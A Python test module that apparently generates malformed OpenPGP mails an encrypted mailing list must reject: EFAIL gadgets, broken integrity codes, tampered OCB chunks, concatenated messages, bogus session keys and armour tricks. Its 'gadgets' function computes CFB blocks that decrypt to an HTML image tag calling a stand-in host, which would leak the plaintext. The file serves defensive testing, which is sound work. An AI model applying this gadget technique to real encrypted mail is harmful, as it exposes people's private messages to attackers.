"""Mails whose encryption is not whole, or not one: EFAIL's gadgets, codes that are gone or wrong, messages in a row, armour with tricks."""

from __future__ import annotations

import re
from collections.abc import Callable

from attack_packets import (
    code,
    compressed,
    contained,
    content,
    data_packet,
    framed,
    joined,
    literal,
    ocb,
    one_pass,
    outer,
    signed,
)
from bad_mails import CANARY, Bad, Stage
from forge import BLOCK, key_packets, packets_of, protected, unprotected
from town import entity

from securelist.openpgp.armor import dearmor
from securelist.openpgp.packets import Tag, read_packets, write_packet
from securelist.openpgp.sequoia import armor

_MDC = 22
PADDING, PRIVATE = 21, 60


# --- EFAIL: what is known of the plaintext becomes something else (CFB) ------------------------------------------------


def gadgets(body: bytes) -> bytes:
    """A version 1 container's octets, its code cut off, with blocks put in that decrypt to an attacker's 16 octets.

    What the fourth block decrypts to is known: behind prefix (18 octets), one-pass signature (15) and header of the literal (8)
    every mail begins with the same fields.
    """
    whole = body[1:-_MDC]
    known, wanted = entity("")[7 : 7 + BLOCK], b'<img src="//x/?'.ljust(BLOCK)
    before, block = whole[2 * BLOCK : 3 * BLOCK], whole[3 * BLOCK : 4 * BLOCK]
    gadget = before + bytes(a ^ b ^ c for a, b, c in zip(block, known, wanted, strict=True))
    return body[:1] + whole[: 4 * BLOCK] + 3 * gadget + whole[4 * BLOCK :]


def protected_by(body: bytes) -> bytes:
    return write_packet(Tag.SEIPD, body)


def stretched(*lengths: int) -> bytes:
    """The first octets of new-format partial lengths, each a power of two (RFC 9580, 4.2.1.4)."""
    return bytes(0xE0 | (length.bit_length() - 1) for length in lengths)


def half(s: Stage, piece: bytes) -> bytes:
    """A data packet that announces more pieces than there are."""
    return data_packet(s, lambda b: bytes((0xC0 | Tag.SEIPD,)) + piece + (b * 40)[:512])


MALLEABILITY = {
    "gadgets in a message whose code stayed": Bad(
        lambda s: data_packet(s, lambda b: protected_by(gadgets(b) + b[-_MDC:])), "not-whole", "open"
    ),
    "gadgets in a message without its code": Bad(lambda s: data_packet(s, lambda b: protected_by(gadgets(b))), "not-whole", "open"),
    "gadgets and a code of noise": Bad(lambda s: data_packet(s, lambda b: protected_by(gadgets(b) + b"\x55" * _MDC)), "not-whole", "open"),
    "gadgets in data made unprotected": Bad(lambda s: data_packet(s, lambda b: write_packet(Tag.SED, gadgets(b)[1:])), "not-whole", "open"),
    "protected data made unprotected": Bad(lambda s: data_packet(s, lambda b: write_packet(Tag.SED, b[1:])), "not-whole", "open"),
    "protected data made unprotected, with its version": Bad(
        lambda s: data_packet(s, lambda b: write_packet(Tag.SED, b)), "not-whole", "open"
    ),
    "the code is missing": Bad(lambda s: contained(s, lambda prefix, packets: packets), "not-whole", "open"),
    "the code is cut to half": Bad(
        lambda s: contained(s, lambda prefix, packets: packets + code(prefix, packets)[:12]), "not-whole", "open"
    ),
    "the code has another header": Bad(lambda s: contained(s, lambda p, m: m + code(p, m, b"\xd3\x15")), "not-whole", "open"),
    "the code has a header of the old format": Bad(lambda s: contained(s, lambda p, m: m + code(p, m, b"\xcc\x14")), "not-whole", "open"),
    "the code is about all but the prefix": Bad(lambda s: contained(s, lambda p, m: m + code(b"", m)), "not-whole", "open"),
    "a message after the code": Bad(lambda s: contained(s, lambda p, m: m + code(p, m) + m), "not-whole", "open"),
    "octets after the code": Bad(lambda s: contained(s, lambda p, m: m + code(p, m) + bytes(20)), "not-whole", "open"),
    "a message after the code, and a code over both": Bad(
        lambda s: contained(s, lambda p, m: m + code(p, m) + m + code(p, m + code(p, m) + m)), "not-one-signature", "open"
    ),
    "the code as a packet outside": Bad(
        lambda s: contained(s, lambda p, m: m, lambda b: protected_by(b"\1" + b) + write_packet(Tag.MDC, bytes(20))),
        "not-one-message",
        "open",
    ),
    "an empty container": Bad(lambda s: data_packet(s, lambda b: protected_by(b"")), "not-whole", "open"),
    "a container of its version alone": Bad(lambda s: data_packet(s, lambda b: protected_by(b[:1])), "not-whole", "open"),
    "a container of half a prefix": Bad(lambda s: data_packet(s, lambda b: protected_by(b[:9])), "not-whole", "open"),
    "a container of version 0": Bad(lambda s: data_packet(s, lambda b: protected_by(b"\0" + b[1:])), "not-whole", "open"),
    "a container of version 2, of which it is not": Bad(
        lambda s: data_packet(s, lambda b: protected_by(b"\2" + b[1:])), "not-whole", "open"
    ),
    "a container of version 2 that is too short": Bad(lambda s: data_packet(s, lambda b: protected_by(b"\2\x09\2\0")), "not-whole", "open"),
    "a container of version 99": Bad(lambda s: data_packet(s, lambda b: protected_by(b"\x63" + b[1:])), "not-whole", "open"),
    "OCB with a wrong last tag": Bad(lambda s: ocb(s, lambda c: [*c[:-1], bytes(16)]), "not-whole", "open"),
    "OCB with a wrong tag in its midst": Bad(lambda s: ocb(s, lambda c: [c[0][:-1] + bytes([c[0][-1] ^ 1]), *c[1:]]), "not-whole", "open"),
    "OCB without its last chunk": Bad(lambda s: ocb(s, lambda c: c[:-2] + c[-1:]), "not-whole", "open"),
    "OCB without its last tag": Bad(lambda s: ocb(s, lambda c: c[:-1]), "not-whole", "open"),
    "OCB that ends within a chunk": Bad(lambda s: ocb(s, lambda c: [*c[:-2], c[-2][:20]]), "not-whole", "open"),
    "OCB with two chunks exchanged": Bad(lambda s: ocb(s, lambda c: [c[1], c[0], *c[2:]]), "not-whole", "open"),
    "OCB with a chunk twice": Bad(lambda s: ocb(s, lambda c: [c[0], *c]), "not-whole", "open"),
    "OCB that says it is EAX": Bad(lambda s: ocb(s, lambda c: c, b"\1\x09\1\0"), "not-whole", "open"),
    "OCB of version 2": Bad(lambda s: ocb(s, lambda c: c, b"\2\x09\2\0"), "not-whole", "open"),
    "OCB with chunks of 2^63 octets": Bad(lambda s: ocb(s, lambda c: c, b"\1\x09\2\x39"), "not-whole", "open"),
    "OCB with an unknown cipher": Bad(lambda s: ocb(s, lambda c: c, b"\1\x6e\2\0"), "not-whole", "open"),
    "empty OCB": Bad(lambda s: framed(s, outer(s.town)[0] + write_packet(Tag.OCB, b"")), "not-whole", "open"),
    "pieces that end early": Bad(lambda s: half(s, stretched(512)), "not-openpgp", "open"),
    "a piece of 2^30 octets": Bad(lambda s: half(s, stretched(2**30)), "not-openpgp", "open"),
    "pieces of one octet": Bad(lambda s: data_packet(s, lambda b: bytes((0xC0 | Tag.SEIPD, 0xE0)) + b), "not-openpgp", "open"),
    "a length without end": Bad(lambda s: data_packet(s, lambda b: bytes((0x80 | Tag.SED << 2 | 3,)) + b[1:]), "not-whole", "open"),
    "a length of four gigabytes": Bad(
        lambda s: data_packet(s, lambda b: bytes((0xC0 | Tag.SEIPD, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF)) + b), "not-openpgp", "open"
    ),
}


# --- several messages in a row -----------------------------------------------------------------------------------------


def parts(s: Stage) -> tuple[bytes, bytes]:
    """(session-key packets, data packet) of a post of Anna's."""
    message = dearmor(s.town.encrypt(s.anna, content()))
    return key_packets(message), packets_of(message, Tag.SEIPD)[0].octets


def around(s: Stage, before: bytes = b"", between: bytes = b"", after: bytes = b"") -> bytes:
    """A post of Anna's with packets before its session keys, before its data, and after these."""
    keys, data = parts(s)
    return framed(s, before + keys + between + data + after)


def same_key_twice(s: Stage) -> bytes:
    """One session key, two containers: both decrypt, gpg puts out both."""
    keys, key = outer(s.town)
    return framed(s, keys + protected(key, joined(*signed(s))) + protected(key, literal(content())))


def skesk(s: Stage) -> bytes:
    """A packet that lets a password open the message, too."""
    message = s.people.gpg("--symmetric", "--pinentry-mode", "loopback", "--passphrase", "x", data=b"x")
    return packets_of(message, Tag.SKESK)[0].octets


def version_6(s: Stage) -> bytes:
    """A session-key packet of version 6 for the list's key (RFC 9580, 5.1.2) in front of data of version 1."""
    listing = s.people.gpg("--with-colons", "--list-keys", s.town.key).decode().split("fpr:::::::::")
    body = b"\6\x15\4" + bytes.fromhex(listing[-1][:40]) + b"\x19" + bytes(32) + b"\x28" + bytes(40)
    return framed(s, write_packet(Tag.PKESK, body) + parts(s)[1])


CONCATENATED = {
    "two containers under one session key": Bad(same_key_twice, "not-one-message", "open"),
    "two whole messages in one armour": Bad(lambda s: framed(s, joined(*parts(s), *parts(s))), "not-one-message", "open"),
    "a literal after the container": Bad(lambda s: around(s, after=literal(content())), "not-one-message", "open"),
    "a literal before it all": Bad(lambda s: around(s, before=literal(content())), "not-one-message", "open"),
    "a literal between session key and data": Bad(lambda s: around(s, between=literal(content())), "not-one-message", "open"),
    "a marker between session key and data": Bad(lambda s: around(s, between=write_packet(Tag.MARKER, b"PGP")), "not-one-message", "open"),
    "a marker after the data": Bad(lambda s: around(s, after=write_packet(Tag.MARKER, b"PGP")), "not-one-message", "open"),
    "padding before it all": Bad(lambda s: around(s, before=write_packet(Tag.PADDING, bytes(99))), "not-one-message", "open"),
    "padding after the data": Bad(lambda s: around(s, after=write_packet(Tag.PADDING, bytes(99))), "not-one-message", "open"),
    "a trust packet after the data": Bad(lambda s: around(s, after=write_packet(Tag.TRUST, b"\x06")), "not-one-message", "open"),
    "a private packet before it all": Bad(lambda s: around(s, before=bytes((0xC0 | PRIVATE, 1, 0))), "not-one-message", "open"),
    "a packet of the reserved type 0": Bad(lambda s: around(s, before=b"\xc0\1\0"), "not-one-message", "open"),
    "a certificate before it all": Bad(lambda s: around(s, before=dearmor(s.anna.certificate)), "not-one-message", "open"),
    "a signature before it all": Bad(lambda s: around(s, before=signed(s)[2].octets), "not-one-message", "open"),
    "a one-pass signature around it all": Bad(
        lambda s: around(s, before=one_pass(s.anna), after=signed(s)[2].octets), "not-one-message", "open"
    ),
    "a session key after the data": Bad(lambda s: around(s, after=outer(s.town)[0]), "not-one-message", "open"),
    "a password besides the list's key": Bad(lambda s: around(s, between=skesk(s)), "not-one-message", "open"),
    "compressed around the encryption": Bad(lambda s: framed(s, compressed(joined(*parts(s)))), "not-one-message", "open"),
    "unprotected data before the protected": Bad(
        lambda s: around(s, between=unprotected(outer(s.town)[1], literal(content()))), "not-one-message", "open"
    ),
    "a session key of version 6 for data of version 1": Bad(version_6, "not-whole", "open"),
    "the session key of another message": Bad(lambda s: framed(s, outer(s.town)[0] + parts(s)[1]), "not-whole", "open"),
}


# --- session keys that are none ----------------------------------------------------------------------------------------


def session_keys(s: Stage, change: Callable[[bytes], bytes]) -> bytes:
    """A post whose session-key packet for the list is another: version, key ID (8), algorithm, point (MPI), wrapped key."""
    keys, data = parts(s)
    return framed(s, write_packet(Tag.PKESK, change(read_packets(keys)[0].body)) + data)


def primary(s: Stage) -> bytes:
    """The key ID of the list's primary key, which only signs."""
    return bytes.fromhex(s.town.key[-16:])


SESSION_KEYS = {
    "a session key without octets": Bad(lambda s: session_keys(s, lambda b: b[:10]), "not-whole", "open"),
    "a session key of 65,535 bits": Bad(lambda s: session_keys(s, lambda b: b[:10] + b"\xff\xff" + b[12:]), "not-whole", "open"),
    "a session key with a point of nothing": Bad(
        lambda s: session_keys(s, lambda b: b[:10] + b"\0\0" + b[45:]), "not-for-the-list", "open"
    ),
    "a session key wrapped in nothing": Bad(lambda s: session_keys(s, lambda b: b[:45] + b"\0"), "not-whole", "open"),
    "a session key for a point of order one": Bad(
        lambda s: session_keys(s, lambda b: b[:13] + bytes(32) + b[45:]), "not-for-the-list", "open"
    ),
    "a session key in ElGamal for a key on a curve": Bad(
        lambda s: session_keys(s, lambda b: b[:9] + b"\x10" + b[10:]), "not-whole", "open"
    ),
    "a session key by an unknown algorithm": Bad(lambda s: session_keys(s, lambda b: b[:9] + b"\x63" + b[10:]), "not-for-the-list", "open"),
    "a session key of version 4": Bad(lambda s: session_keys(s, lambda b: b"\4" + b[1:]), "not-whole", "open"),
    "a session key for the key that signs": Bad(
        lambda s: session_keys(s, lambda b: b[:1] + primary(s) + b[9:]), "not-for-the-list", "open"
    ),
}


# --- armour with tricks ------------------------------------------------------------------------------------------------


def armored(s: Stage) -> bytes:
    """A post of Anna's as gpg armours it."""
    return s.town.encrypt(s.anna, content())


def lines(s: Stage, pattern: bytes, replacement: bytes) -> bytes:
    """A mail whose armour was changed."""
    changed, count = re.subn(pattern, replacement, armored(s), count=1)
    assert count
    return s.mail(changed)


def both_kinds(s: Stage) -> bytes:
    """An armoured message, and a binary one behind it in the same part."""
    return s.mail(armored(s) + dearmor(armored(s)).replace(b"\r", b"x").replace(b"\n", b"x"))


ARMOR = {
    "two armoured messages in one part": Bad(lambda s: s.mail(armored(s) + armored(s)), "text-outside-block", "open"),
    "an armoured message and a binary one": Bad(both_kinds, "text-outside-block", "open"),
    "an armoured message in an armoured message": Bad(lambda s: s.mail(armor(armored(s), "MESSAGE")), "not-openpgp", "open"),
    "armour around armour lines": Bad(
        lambda s: s.mail(b"-----BEGIN PGP MESSAGE-----\n\n" + armored(s) + b"-----END PGP MESSAGE-----\n"), "text-outside-block", "open"
    ),
    "armour of a signature": Bad(lambda s: lines(s, b"(?s)MESSAGE(.*)MESSAGE", rb"SIGNATURE\1SIGNATURE"), "not-encrypted", "open"),
    "armour of a certificate": Bad(
        lambda s: lines(s, b"(?s)MESSAGE(.*)MESSAGE", rb"PUBLIC KEY BLOCK\1PUBLIC KEY BLOCK"), "not-encrypted", "open"
    ),
    "armour of a part of a message": Bad(
        lambda s: lines(s, b"(?s)MESSAGE(.*)MESSAGE", rb"MESSAGE, PART 1/2\1MESSAGE, PART 1/2"), "not-encrypted", "open"
    ),
    "armour that ends as something else": Bad(lambda s: lines(s, b"END PGP MESSAGE", b"END PGP SIGNATURE"), "not-one-block", "open"),
    "armour in small letters": Bad(lambda s: lines(s, b"BEGIN PGP MESSAGE", b"begin pgp message"), "not-encrypted", "open"),
    "armour with its dashes escaped": Bad(lambda s: lines(s, b"-----BEGIN", b"- -----BEGIN"), "not-one-block", "open"),
    "armour that is indented": Bad(lambda s: lines(s, b"-----BEGIN", b"  -----BEGIN"), "not-one-block", "open"),
    "armour that is quoted": Bad(lambda s: s.mail(re.sub(rb"(?m)^", b"> ", armored(s))), "not-one-block", "open"),
    "armour with a NUL in its header": Bad(lambda s: lines(s, b"\n\n", b"\nVersion\0: 1\n\n"), "not-one-block", "open"),
    "armour with text for a header": Bad(lambda s: lines(s, b"\n\n", b"\nThe name servers are down!\n\n"), "not-one-block", "open"),
    "armour of a checksum alone": Bad(
        lambda s: s.mail(b"-----BEGIN PGP MESSAGE-----\n\n=twTO\n-----END PGP MESSAGE-----\n"), "not-openpgp", "open"
    ),
    "armour of nothing": Bad(lambda s: s.mail(b"-----BEGIN PGP MESSAGE-----\n\n-----END PGP MESSAGE-----\n"), "not-openpgp", "open"),
    "armour with a comment in its midst": Bad(lambda s: lines(s, b"\n=", b"\nComment: x\n="), "not-one-block", "open"),
    "armour with padding in its midst": Bad(lambda s: lines(s, b"\n\n.{60}", b"\n\nQUI=" + b"A" * 56), "bad-armor", "open"),
    "armour with text on its last line": Bad(
        lambda s: lines(s, b"END PGP MESSAGE-----", b"END PGP MESSAGE----- bye"), "not-one-block", "open"
    ),
    "a clearsigned text as the encrypted part": Bad(lambda s: s.mail(s.people.clearsign(s.anna, CANARY)), "not-encrypted", "open"),
    "a clearsigned text around the encrypted message": Bad(
        lambda s: s.mail(s.people.clearsign(s.anna, armored(s).decode())), "text-outside-block", "open"
    ),
    "a clearsigned text before the encrypted message": Bad(
        lambda s: s.mail(s.people.clearsign(s.anna, CANARY) + armored(s)), "text-outside-block", "open"
    ),
    "a signed message in the armour of an encrypted one": Bad(
        lambda s: s.mail(s.people.sign(s.anna, entity(CANARY))), "not-one-message", "open"
    ),
    "a backup of somebody's key": Bad(
        lambda s: s.mail(s.people.gpg("--armor", "--export-secret-keys", s.mallory.fingerprint)), "not-encrypted", "open"
    ),
}

ATTACKS_WHOLE = {**MALLEABILITY, **CONCATENATED, **SESSION_KEYS, **ARMOR}
